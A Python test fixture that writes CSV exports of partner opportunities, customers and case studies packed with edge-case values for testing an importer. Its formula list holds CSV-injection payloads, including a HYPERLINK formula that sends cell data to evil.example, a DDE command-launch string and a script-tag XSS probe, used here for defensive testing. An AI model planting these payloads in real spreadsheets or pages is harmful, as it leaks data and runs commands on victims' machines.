"""A small world made by hand, full of values that readers and spreadsheets get wrong. What stands here is the truth.

Every text stands in the title of one opportunity, and in free texts of other kinds; the lists below hold amounts, dates
and lists of the same opportunities. `write` makes the exports; what the dataset must hold of them is in the constants.
"""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

PARTNER = "P-HARD"
# A partner whose files hold as few columns as they may, each cell blank.
BARE = "P-BARE"
NAME = '=Partner "Hard", Ltd'

# The first characters with which a spreadsheet starts a formula (OWASP, "CSV Injection"), and what looks like it.
FORMULAS = [
    "=1+1",
    "+49 40 1234",
    "-5 % off",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://evil.example/?x="&A1;"open")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "a\n=1+1",
    "|calc",
    "'=1+1",
    "'quoted",
    "''twice",
    "-",
    "-1",
    "+1.5",
    "=",
]

TEXTS = FORMULAS + [
    "Zażółć gęślą jaźń, Ærøskøbing, Straße",
    "株式会社テスト 有限公司",
    "👩‍👩‍👧‍👦 family, 🇩🇪 flag, 👍🏽 tone",
    "e\u0301 is not é",
    "שלום عالم mixed with left",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 beyond the basic plane",
    "She said \"launch\", twice; and, 'left'",
    '"',
    "one\ntwo",
    "one\r\ntwo",
    "one\ttab",
    "C:\\temp\\new and \\N and \\u0041",
    "a|b|c and `ticks` and <script>alert(1)</script> &amp; &lt;",
    "_x0041_ and _x000D_",
    "line\u2028separator and \u00a0no break",
    "bell \x07 and escape \x1b[31m inside",
    "00123",
    "1e5",
    "1/2",
    "2026-11-20",
    "3.14",
    "TRUE",
    "NaN",
    "{'a': 1}",
    "[]",
    "long " + "lørem ipsum, " * 3_000 + "end",
]

AMOUNTS = [Decimal(text) for text in ("0.00", "0.01", "0.10", "833333333333333.25", "4999.99", "123456789012.34")]
# The most that DECIMAL(18,2) holds; too much for a month, since twelve of them do not fit.
LARGEST = Decimal("9999999999999999.99")
DATES = [
    date(1900, 1, 1),
    date(1969, 12, 31),
    date(1970, 1, 1),
    date(2000, 2, 29),
    date(2026, 11, 20),
    date(9999, 12, 30),
]
MOMENTS = [
    datetime(1969, 12, 31, 23, 59, 59, 999999, UTC),
    datetime(1970, 1, 1, 0, 0, 0, 1, UTC),
    datetime(2026, 3, 29, 1, 30, 0, 0, UTC),
    datetime(2026, 10, 25, 0, 30, 0, 123456, UTC),
]
# Names that a spreadsheet would run reach evidence and near misses as labels.
CUSTOMERS = ['=HYPERLINK("https://evil.example") GmbH', "Customer 1", "@Customer 2"]
LISTS = [[], ["one"], ["=1+1", "@two", "-3"], ['a "quoted", item', "ünï", "b|c"], ["株式会社", "👍🏽"]]


# A row whose amount and days cannot be read: cells that go to the rejects as they are.
UNREADABLE = [PARTNER, "O8999999", "", "Customer 1", "", "", "", "Prospect", "", "", "", "", "", "", "-0.01"]
UNREADABLE += ["=TODAY()", "+1 week", "", ""]


def opportunity_id(number: int) -> str:
    """The id of the opportunity that bears the n-th text."""
    return f"O8{number:06}"


def nth(values: list, number: int):
    """The n-th value, from the start again after the last."""
    return values[number % len(values)]


def write(folder: Path) -> None:
    """Writes the exports."""
    numbered = list(enumerate(TEXTS))
    table(
        folder / "opportunities.csv",
        "Partner Id,Opportunity Id,Partner CRM Id,Customer Company Name,AWS Account ID,Country,Partner Project Title,"
        "Stage,Status,Origin,AWS Products,Solutions,APN Programs,Delivery Models,Estimated AWS Monthly Recurring Revenue,"
        "Date Created,Target Close Date,Last Modified Date,Closed Reason",
        [opportunity(number, text) for number, text in numbered] + [UNREADABLE],
    )
    table(
        folder / "customers.csv",
        "Partner Id,Customer,Country,Segment,Annual Revenue (USD),Employees,Customer Type",
        [
            [PARTNER, CUSTOMERS[0], "DE", "SMB", "5000000", 20, "Other"],
            [PARTNER, CUSTOMERS[1], "", "", LARGEST, 2_147_483_647, ""],
            [PARTNER, CUSTOMERS[2], "", "SMB", "", "", ""],
            [BARE, "=Bare", "", "", "", "", ""],
        ],
    )
    table(
        folder / "activities.csv",
        "Partner Id,Activity Type,Title,URL,Date,Practice,Person",
        [[PARTNER, "Education Event", text, "", nth(DATES, number), "", text] for number, text in numbered],
    )
    table(
        folder / "offerings.csv",
        "Partner Id,Title,Description,URL,Offering Type,Active,Listed Date",
        [[PARTNER, f"offering {number}", text, "", "", "yes", nth(DATES, number)] for number, text in numbered]
        + [[BARE, "bare", "", "", "", "", ""]],
    )
    table(
        folder / "attestations.csv",
        "Partner Id,Program,Requirement,Case Study Id,Met,Date,Evidence",
        [[PARTNER, "smb", f"T-{number}", "", "yes", nth(DATES, number), text] for number, text in numbered],
    )
    table(
        folder / "case-studies.csv",
        "Partner Id,Case Study Id,Customer,Programs,Title,Public,Features,AWS Services,Status,"
        "Deployed Date,Agents,AWS MRR (USD)",
        [
            [
                PARTNER,
                f"CS-{number}",
                CUSTOMERS[0],
                "smb",
                text,
                "yes",
                "",
                "Amazon S3",
                "Production",
                "2026-01-31",
                number,
                "0.01",
            ]
            for number, text in numbered
        ],
    )
    table(
        folder / "bare-opportunities.csv",
        "Partner Id,Opportunity Id,Stage,Customer Company Name",
        [[BARE, "O9000000", "", ""]],
    )
    table(folder / "bare-case-studies.csv", "Partner Id,Case Study Id,Customer", [[BARE, "CS-0", ""]])
    table(
        folder / "partners.csv",
        "Partner Id,Name,Path,Path Stage,Tier,Valid From,Valid Until",
        [[PARTNER, NAME, "Services", "Validated", "", "1900-01-01", ""], [BARE, "", "", "", "", "", ""]],
    )


def opportunity(number: int, text: str) -> list:
    """One opportunity: the text in free columns, amounts, dates and lists in turn."""
    lists = [";".join(nth(LISTS, number)), ";".join(nth(LISTS, number + 1)), "Managed Services;Resell"]
    return (
        [
            PARTNER,
            opportunity_id(number),
            f"CRM {text}",
            nth(CUSTOMERS, number),
            "",
            "Germany",
            text,
            "Launched",
            "Approved",
        ]
        + ["Partner Referral", "Amazon S3;AWS Glue", *lists, nth(AMOUNTS, number)]
        + [nth(DATES, number), nth(DATES, number + 1), nth(MOMENTS, number).isoformat(), text]
    )


def table(path: Path, header: str, rows: list[list]) -> None:
    """Writes one CSV file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(header.split(","))
        writer.writerows(rows)
